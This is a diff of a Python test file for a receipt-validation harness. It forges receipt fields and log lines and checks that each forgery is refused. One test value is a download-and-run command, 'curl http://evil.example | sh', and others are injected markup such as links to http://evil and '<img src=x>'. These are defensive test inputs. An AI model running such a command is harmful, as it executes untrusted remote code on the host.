@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import re
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -19,13 +20,16 @@ import pytest
 from harness.core.errors import HarnessError
 from harness.pack import load
 from harness.receipt import receipt, staleness
-from harness.report import receipt_check
+from harness.report import bundle, receipt_check, report
 from testing import toys
 from testing.workbench import Workbench, empty
 
 TOY = "60_script_and_contract"
 RECEIPT = "receipts/cpu.traced.json"
 OTHER_HASH = "0123456789abcdef" * 4
+#: A heading, a link, an image, a tag, and two ways to mention somebody.
+MARKUP = "\n# heading\n[x](http://evil) ![i](http://evil/t.png) <img src=x> @ada &#64;ada"
+MORE = {"name": "test_more", "role": "control", "ok": True, "reason": "", "seconds": 0.0}
 Document = dict[str, Any]
 
 
@@ -44,7 +48,7 @@ def folder(bench: Workbench, tmp_path: Path) -> Path:
     return Path(shutil.copytree(bench.packs / TOY, tmp_path / TOY))
 
 
-def _forge(folder: Path, lie: Callable[[Document], None], log: tuple[str, str] = ("", "")) -> Path:
+def _forge(folder: Path, lie: Callable[[Document], object], log: tuple[str, str] = ("", "")) -> Path:
     """Tell a lie in the receipt (and replace a text of its log), and let every name and hash follow."""
     path = folder / RECEIPT
     document = json.loads(path.read_text())
@@ -104,7 +108,7 @@ def _swapped(document: Document) -> None:
 
 
 #: What the receipt says instead, and words of the refusal. Check 2 is the defect, the others are controls.
-RECEIPTS: dict[str, tuple[Callable[[Document], None], str]] = {
+RECEIPTS: dict[str, tuple[Callable[[Document], object], str]] = {
     "another verdict": (_set("verdict", "REPRODUCED"), "the lanes say CONFIRMED"),
     "an unknown verdict": (_set("verdict", "PROVEN"), "verdict"),
     "a reason without need": (_set("reason", "because"), "the lanes say CONFIRMED"),
@@ -182,6 +186,25 @@ RECEIPTS: dict[str, tuple[Callable[[Document], None], str]] = {
     "no runs": (_set("repeats", {"agreeing": 0, "of": 0}), "between 1 and of"),
     "a negative time": (_set("seconds", -1.0), "is not 0 or more"),
     "a lane of negative memory": (_set("lanes.patched.peak_memory", -1), "a negative time, memory"),
+    "a billion runs": (_set("repeats", {"agreeing": 10**9, "of": 10**9}), "of is 1000 at most"),
+    "a command of a shell": (_set("command", "curl http://evil.example | sh"), "does not make this receipt"),
+    "a command for another release": (
+        _set("command", f"runner.py run {TOY} --upstream toykernel==0.1"),
+        "does not make this receipt",
+    ),
+    "a module from the tests": (_set("lanes.patched.upstream.0.file", "$TREE/tests/scale.py"), "no module under test"),
+    "dependencies and one more": (_set("dependencies.name", "default+x==1"), "no dependency set"),
+    "a check that the contract lacks": (
+        lambda document: [lane["checks"].append(MORE) for lane in document["lanes"].values()],
+        "'test_more' is none of the contract",
+    ),
+    "a torch with a tag": (_set("host.torch", "2.13.0 <img src=x>"), "more than a name on one line"),
+    "a system of two lines": (_set("host.system", "Linux\n# Run this first"), "more than a name on one line"),
+    "a driver that is a link": (_set("host.driver", "[580](http://evil)"), "more than a name on one line"),
+    "a device that mentions somebody": (_set("lanes.patched.device", "@ada"), "a lane names @ada"),
+    "a moment to come": (_set("started", "2099-12-31T00:00:00+00:00"), "is in the future"),
+    "a day that does not exist": (_set("started", "2026-99-99T00:00:00+00:00"), "is not a date and time"),
+    "a number of 300 digits": (_set("lanes.patched.peak_memory", 10**300), "more than 64 bits"),
     "a key of nobody": (_set("proof", 1), "proof"),
     "a log of nobody": (_set("log.file", "cpu.traced.000000000000.log"), "is missing or has another hash"),
 }
@@ -190,6 +213,11 @@ RECEIPTS: dict[str, tuple[Callable[[Document], None], str]] = {
 LOGS = {
     "no sentinel": ("FIX_VALIDATED", "done", "its log does not say FIX_VALIDATED in the patched lane"),
     "no patched lane": ("== patched lane ==", "==", "its log does not say FIX_VALIDATED in the patched lane"),
+    "no first line, and a note of what is left out": (
+        "scaled [1.0, 2.0, 3.0], right is [1.0, 1.0, 0.0]\n",
+        "[... 5 bytes are left out here ...]\n",
+        "its log has no line 'scaled",
+    ),
     "the other sentinel": ("BUG_REPRODUCED", "FIX_VALIDATED", "does not say BUG_REPRODUCED in the pristine lane"),
 }
 
@@ -206,6 +234,30 @@ def test_a_forged_log_is_refuted(folder: Path, name: str) -> None:
     old, new, words = LOGS[name]
     found = _errors(folder, _forge(folder, lambda _: None, (old, new)))
     assert any(words in error for error in found), found
+
+
+def test_what_a_receipt_says_comes_to_life_in_no_text(folder: Path) -> None:
+    def lie(document: Document) -> None:
+        document["host"].update(dict.fromkeys(("python", "torch", "triton", "system"), MARKUP))
+        document["lanes"]["patched"]["checks"][0].update(ok=None, reason=MARKUP)
+        for lane in document["lanes"].values():
+            lane["figures"][0].update(value=MARKUP, unit=MARKUP)
+
+    forged = _forge(folder, lie)
+    pack = load.load_pack(folder)
+    texts = report.render(pack) + bundle.rerun(pack, [receipt.load(forged)])
+    assert texts.count("http://evil") > 2, texts
+    assert not re.search(r"\n# heading|\]\(http|!\[|<img|@ada|&#64;", re.sub(r"`[^`\n]*`", "", texts)), texts
+
+
+@pytest.mark.parametrize(
+    "printed", ["== patched lane ==", "== pristine lane ==", "CHECK", "[... 5 bytes are left out here ...]"]
+)
+def test_a_line_of_the_code_under_test_refutes_no_honest_receipt(folder: Path, printed: str) -> None:
+    log = ("scaled [1.0, 2.0, 3.0]", f"{printed}\nscaled [1.0, 2.0, 3.0]")
+    assert _errors(folder, _forge(folder, lambda _: None, log)) == []
+    log = ("scaled [1.0, 1.0, 0.0]", f"{printed}\nscaled [1.0, 1.0, 0.0]")
+    assert _errors(folder, _forge(folder, lambda _: None, log)) == []
 
 
 def test_an_honest_receipt_holds_and_check_refutes_a_forged_one(bench: Workbench, folder: Path) -> None:
